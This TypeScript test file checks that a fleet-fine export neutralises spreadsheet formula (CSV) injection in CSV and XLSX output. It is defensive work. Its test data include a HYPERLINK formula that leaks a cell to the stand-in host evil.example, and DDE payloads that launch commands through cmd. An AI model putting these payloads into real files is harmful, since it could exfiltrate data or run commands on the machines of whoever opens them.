import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FleetFine } from '../../src/api/structs/organization.ts';
import { withInnCheckDigits } from '../../src/lib/inn.ts';
import { fleetCsv } from '../../server/organizations/fleetExport.ts';
import { XLSX_LIMITS } from '../../server/spreadsheets/xlsxReader.ts';
import { openZip, unpack } from '../../server/spreadsheets/zipArchive.ts';
import { createMailTestApi, signUp } from '../api/helpers/accounts.ts';
import type { MailTestApi } from '../api/helpers/accounts.ts';
import { FIXTURES } from '../api/helpers/fixtures.ts';
import type { Session } from '../api/helpers/testApi.ts';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")';

/** A fleet fine with the given texts, the rest plain. */
function fine(texts: Partial<FleetFine> = {}): FleetFine {
  return {
    id: 1,
    organizationId: 1,
    organizationName: 'ООО «Флот»',
    vehicleId: 1,
    driverId: null,
    foundBy: 'А123ВС 77',
    uin: '18810177250612002172',
    article: '12.9.2',
    articleTitle: 'Превышение скорости на 20–40 км/ч',
    rulingDate: '2025-06-12',
    place: 'Москва, ул. Тверская, 1',
    fullAmount: 500,
    amountToPay: 250,
    fullAmountKopecks: 50_000,
    amountToPayKopecks: 25_000,
    discountActive: true,
    discountLastDay: '2025-07-02',
    paid: false,
    masked: false,
    ...texts,
  };
}

/** The cells of the first data row of a CSV export (quotes as RFC 4180). */
function firstRowCells(csv: Uint8Array): string[] {
  const line = new TextDecoder().decode(csv).split('\r\n')[1] ?? '';
  return [...line.matchAll(/("(?:[^"]|"")*"|[^;]*)(?:;|$)/g)].map((m) => (m[1] ?? '').replace(/^"([\s\S]*)"$/, '$1').replaceAll('""', '"')).slice(0, 11);
}

describe('CSV export neutralises formulas in text cells (OWASP CSV injection, issue 23)', () => {
  it.each([
    ['=', EVIL],
    ['+', '+7 (495) 123-45-67'],
    ['-', '-1+cmd|" /C calc"!A0'],
    ['@', '@SUM(1+1)*cmd|" /C calc"!A0'],
    ['tab', '\t=1+1'],
    ['carriage return', '\r=1+1'],
  ])('a text starting with %s gets a quote in front', (_name, text) => {
    const cells = firstRowCells(fleetCsv([fine({ organizationName: text, place: text, articleTitle: text })]));
    expect([cells[0], cells[4], cells[6]]).toEqual([`'${text}`, `'${text}`, `'${text}`]);
  });

  it.each([['ООО «Флот»'], ['Москва, ул. 1-я Тверская-Ямская'], ['a = b'], ['1+1']])('%j stays as it is', (text) => {
    expect(firstRowCells(fleetCsv([fine({ organizationName: text })]))[0]).toBe(text);
  });

  it('numbers stay numbers, a negative one included', () => {
    const cells = firstRowCells(fleetCsv([fine({ fullAmount: -500, amountToPay: 0 })]));
    expect([cells[7], cells[8]]).toEqual(['-500,00', '0,00']);
  });
});

describe('a fleet export with a formula for a name (issue 23)', () => {
  let api: MailTestApi;
  let company: Session;
  let organizationId = 0;
  beforeAll(async () => {
    api = await createMailTestApi();
    company = await signUp(api, 'formula@example.ru', { isLegalEntity: '1' });
    organizationId = (await api.request('POST', '/105/api/organization', { session: company, form: { inn: withInnCheckDigits('500100732'), name: EVIL } })).body.response.item.id;
    const vehicle = await api.request('POST', `/105/api/organization/${organizationId}/vehicles`, { session: company, form: { ...FIXTURES.stsWithFines, model: EVIL } });
    expect(vehicle.status).toBe(200);
    await api.request('GET', `/105/api/organization/${organizationId}/fines`, { session: company });
  });
  afterAll(async () => {
    expect(api.unexpected).toEqual([]);
    await api.close();
  });

  const download = (format: 'csv' | 'xlsx') =>
    api.app.request(`/105/api/organization/fines/export?format=${format}&organization=${organizationId}`, { headers: { 'X-Session': company.session, 'X-Rand': company.rand, 'X-User-Id': String(company.userId) } });

  it('CSV: the name comes out as text for any spreadsheet', async () => {
    const reply = await download('csv');
    expect(reply.status).toBe(200);
    const cells = firstRowCells(new Uint8Array(await reply.arrayBuffer()));
    expect(cells[0]).toBe(`'${EVIL}`);
  });

  it('XLSX: the name is a plain string cell, no formula anywhere in the sheet', async () => {
    const reply = await download('xlsx');
    expect(reply.status).toBe(200);
    const bytes = new Uint8Array(await reply.arrayBuffer());
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes.buffer);
    const cell = workbook.worksheets[0]?.getRow(2).getCell(1);
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.value).toBe(EVIL);
    const archive = openZip(bytes, XLSX_LIMITS);
    const sheet = archive.entries.get('xl/worksheets/sheet1.xml');
    if (sheet === undefined) throw new Error('no sheet1.xml');
    let xml = '';
    for await (const chunk of unpack(archive, sheet, XLSX_LIMITS.maxEntryBytes)) xml += new TextDecoder().decode(chunk);
    expect(xml).not.toMatch(/<f[\s>]/);
  });
});
